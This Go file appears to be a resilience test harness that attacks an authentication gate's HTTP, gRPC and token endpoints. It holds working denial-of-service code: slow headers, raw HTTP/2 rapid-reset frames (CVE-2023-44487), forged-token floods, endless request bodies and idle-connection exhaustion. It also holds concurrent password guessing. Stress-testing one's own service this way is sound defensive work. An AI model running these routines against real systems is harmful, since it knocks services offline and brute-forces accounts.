package main

import (
	"bufio"
	"bytes"
	"context"
	"encoding/base64"
	"encoding/binary"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"runtime"
	"strings"
	"sync/atomic"
	"time"
)

// victim is what attackers know of a gate: its addresses, and one device whose token they have seen.
type victim struct {
	HTTP   string `json:"http"`
	GRPC   string `json:"grpc"`
	API    string `json:"api"`
	Device device `json:"device"`
}

// abuse is one attack: attackers who go on until their context ends.
type abuse struct {
	name      string
	attackers int
	acts      string // what attackers are counted by
	attack    func(ctx context.Context, a *attacker) error
}

// abuses are the attacks, so many and so fast as the sizes have it.
func (v victim) abuses(s abuseSizes) []abuse {
	parts := strings.Split(v.Device.Token, ".")
	const lanes = 8
	each := time.Second * lanes / time.Duration(s.Flood)
	var n atomic.Int64
	flood := func(name, acts string, attack func(context.Context, *attacker, time.Duration) error) abuse {
		return abuse{fmt.Sprintf("%s, %d/s", name, s.Flood), lanes, acts, func(ctx context.Context, a *attacker) error { return attack(ctx, a, each) }}
	}
	tokens := func(name string, next func(i int64) string) abuse {
		return flood(name, "checks", func(ctx context.Context, a *attacker, each time.Duration) error {
			return v.tokenFlood(ctx, a, each, func() string { return next(n.Add(1)) })
		})
	}
	guesses := func(name string, who func(i int64) string) abuse {
		return abuse{name + ", 32 at once", 32, "guesses", func(ctx context.Context, a *attacker) error {
			return v.guessOn(ctx, a, func() string { return who(n.Add(1)) })
		}}
	}
	long := "X-Long: " + strings.Repeat("a", 200<<10)
	return []abuse{
		{"none: a loop on each core that only counts", runtime.NumCPU(), "million turns", count},
		{fmt.Sprintf("slow headers, %d connections", s.Slow), s.Slow, "connections", v.slowHead("X-Slow: ", redial)},
		tokens("distinct invalid tokens", func(i int64) string { return parts[0] + "." + parts[1] + "." + someSignature(i) }),
		tokens("spellings of one token", func(i int64) string { return v.Device.Token + strings.Repeat("=", 1+int(i%100)) }),
		tokens("unknown kids", func(i int64) string {
			return encode(fmt.Sprintf(`{"alg":"EdDSA","kid":"k%d","typ":"at+jwt"}`, i)) + "." + parts[1] + "." + parts[2]
		}),
		flood("gRPC rapid reset", "calls", v.rapidReset),
		flood("gRPC noise for messages", "calls", v.noise),
		{"bodies without an end, 16 at once", 16, "times 50 KB", v.endless},
		guesses("made-up names", func(i int64) string { return fmt.Sprintf("made-up-%d", i) }),
		guesses("wrong passwords of one name", func(int64) string { return "user-0" }),
		// Last, because it takes a while until memory that was let go of is the system's again.
		{fmt.Sprintf("slow headers of 200 KB, %d connections", s.Slow), s.Slow, "connections", v.slowHead(long, redial)},
		{fmt.Sprintf("the same, %d connections anew each second", s.Slow), s.Slow, "connections", v.slowHead(long, soon)},
		{fmt.Sprintf("the same, %d connections anew at once", s.Slow), s.Slow, "connections", v.slowHead(long, atOnce)},
		{fmt.Sprintf("%d idle connections", s.Idle), s.Idle, "connections", v.rest},
	}
}

// count attacks nobody: what it does to honest checks is the machine's doing.
func count(ctx context.Context, a *attacker) error {
	for turns := 0; ctx.Err() == nil; {
		for range 1_000_000 {
			turns++
		}
		a.did()
	}
	return nil
}

func encode(text string) string { return base64.RawURLEncoding.EncodeToString([]byte(text)) }

func someSignature(i int64) string {
	raw := make([]byte, 64)
	binary.BigEndian.PutUint64(raw, uint64(i))
	return encode(string(raw))
}

// paced does something again and again, so often, until ctx ends.
func paced(ctx context.Context, every time.Duration, act func() error) error {
	tick := time.NewTicker(every)
	defer tick.Stop()
	for {
		if err := act(); err != nil {
			return err
		}
		select {
		case <-ctx.Done():
			return nil
		case <-tick.C:
		}
	}
}

// dialUntil dials, and hangs up when ctx ends.
func dialUntil(ctx context.Context, address string) (net.Conn, func(), error) {
	var d net.Dialer
	c, err := d.DialContext(ctx, "tcp", address)
	if err != nil {
		return nil, nil, err
	}
	_ = c.(*net.TCPConn).SetLinger(0) // thousands of connections leave no ports behind that wait for their time
	stop := context.AfterFunc(ctx, func() { _ = c.Close() })
	return c, func() { stop(); _ = c.Close() }, nil
}

// How soon a slow attacker begins anew at the earliest after he began: the gate hangs up on him after as long as redial at
// the latest, and on one who finds no room for his head long before.
const (
	redial = 5 * time.Second
	soon   = time.Second
	atOnce = time.Nanosecond
)

// slowHead begins a request, goes on byte by byte until it is hung up on, and begins anew.
func (v victim) slowHead(head string, again time.Duration) func(context.Context, *attacker) error {
	return func(ctx context.Context, a *attacker) error {
		return paced(ctx, again, func() error {
			c, hangUp, err := dialUntil(ctx, v.HTTP)
			if err != nil {
				return err
			}
			defer hangUp()
			_, _ = io.WriteString(c, "GET /auth/traefik HTTP/1.1\r\nHost: a\r\n"+head)
			a.did()
			_ = paced(ctx, time.Second, func() error { _, err := c.Write([]byte("a")); return err })
			return nil
		})
	}
}

// rest asks one check and keeps the connection. Who was so slow that he was hung up on begins anew.
func (v victim) rest(ctx context.Context, a *attacker) error {
	for ctx.Err() == nil {
		c, hangUp, err := dialUntil(ctx, v.HTTP)
		if err != nil {
			return err
		}
		asker := &httpCaller{conn: c, reader: bufio.NewReaderSize(c, 512), requests: checkRequests([]device{v.Device})}
		allowed, err := asker.check(ctx, v.Device)
		if err == nil && allowed {
			a.did()
			<-ctx.Done()
		}
		hangUp()
		if err == nil && !allowed {
			return errors.New("a check of an idle connection is refused")
		}
	}
	return nil
}

// tokenFlood asks checks with tokens of which none may pass.
func (v victim) tokenFlood(ctx context.Context, a *attacker, every time.Duration, next func() string) error {
	c, hangUp, err := dialUntil(ctx, v.HTTP)
	if err != nil {
		return err
	}
	defer hangUp()
	answers := bufio.NewReader(c)
	return paced(ctx, every, func() error {
		request := checkRequests([]device{{UID: "bad", Token: next()}})["bad"]
		if _, err := c.Write(request); err != nil {
			return err
		}
		resp, err := http.ReadResponse(answers, nil)
		if err != nil {
			return err
		}
		defer resp.Body.Close()
		_, _ = io.Copy(io.Discard, resp.Body)
		a.did()
		if resp.StatusCode != http.StatusUnauthorized {
			return fmt.Errorf("a bad token is answered %s", resp.Status)
		}
		return nil
	})
}

// rapidReset opens calls and takes them back (CVE-2023-44487), and begins anew when it is hung up on.
func (v victim) rapidReset(ctx context.Context, a *attacker, every time.Duration) error {
	for ctx.Err() == nil {
		c, hangUp, err := dialUntil(ctx, v.GRPC)
		if err != nil {
			return err
		}
		go func() { _, _ = io.Copy(io.Discard, c) }() // ends with the connection
		_, _ = io.WriteString(c, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04\x00\x00\x00\x00\x00")
		stream := uint32(1)
		_ = paced(ctx, every, func() error {
			_, err := c.Write(append(frame(1, 4, stream, callHead), frame(3, 0, stream, []byte{0, 0, 0, 8})...))
			stream += 2
			a.did()
			return err
		})
		hangUp()
	}
	return nil
}

// callHead is the headers of a call, in HPACK without any table.
var callHead = func() (b []byte) {
	for _, f := range [][2]string{{":method", "POST"}, {":scheme", "http"}, {":path", "/envoy.service.auth.v3.Authorization/Check"}, {":authority", "a"},
		{"content-type", "application/grpc"}, {"te", "trailers"}} {
		b = append(b, 0, byte(len(f[0])))
		b = append(append(append(b, f[0]...), byte(len(f[1]))), f[1]...)
	}
	return b
}()

// frame is one frame of HTTP/2: HEADERS is 1 and its end 4, RST_STREAM 3.
func frame(kind, flags byte, stream uint32, payload []byte) []byte {
	b := []byte{byte(len(payload) >> 16), byte(len(payload) >> 8), byte(len(payload)), kind, flags}
	return append(binary.BigEndian.AppendUint32(b, stream), payload...)
}

// noise calls with bytes that are no message.
func (v victim) noise(ctx context.Context, a *attacker, every time.Duration) error {
	callers, hangUp, err := dialGRPC(v.GRPC, 1, 1, map[string][]byte{"bad": bytes.Repeat([]byte{0xff}, 1000)})
	if err != nil {
		return err
	}
	defer hangUp()
	return paced(ctx, every, func() error {
		allowed, err := callers[0].check(ctx, device{UID: "bad"})
		a.did()
		if allowed {
			return errors.New("noise is allowed")
		}
		return err
	})
}

// endless sends bodies that do not end, until it is hung up on.
func (v victim) endless(ctx context.Context, a *attacker) error {
	for ctx.Err() == nil {
		c, hangUp, err := dialUntil(ctx, v.API)
		if err != nil {
			return err
		}
		_, _ = io.WriteString(c, "POST /api/token HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Length: 104857600\r\n\r\n")
		_ = paced(ctx, 10*time.Millisecond, func() error {
			a.did()
			_, err := c.Write(bytes.Repeat([]byte(`{"a":`), 10_000))
			return err
		})
		hangUp()
	}
	return nil
}

// guessOn tries wrong passwords, one after the other.
func (v victim) guessOn(ctx context.Context, a *attacker, who func() string) error {
	client := &http.Client{Transport: &http.Transport{}}
	defer client.CloseIdleConnections()
	for ctx.Err() == nil {
		body, _ := json.Marshal(map[string]string{"username": who(), "password": "no " + password})
		req, err := http.NewRequestWithContext(ctx, http.MethodPost, "http://"+v.API+"/api/token", bytes.NewReader(body))
		if err != nil {
			return err
		}
		req.Header.Set("Content-Type", "application/json")
		a.begun()
		resp, err := client.Do(req)
		if err != nil {
			return err
		}
		_, _ = io.Copy(io.Discard, resp.Body)
		_ = resp.Body.Close()
		a.did()
		if resp.StatusCode == http.StatusOK {
			return errors.New("a wrong password signs in")
		}
	}
	return nil
}
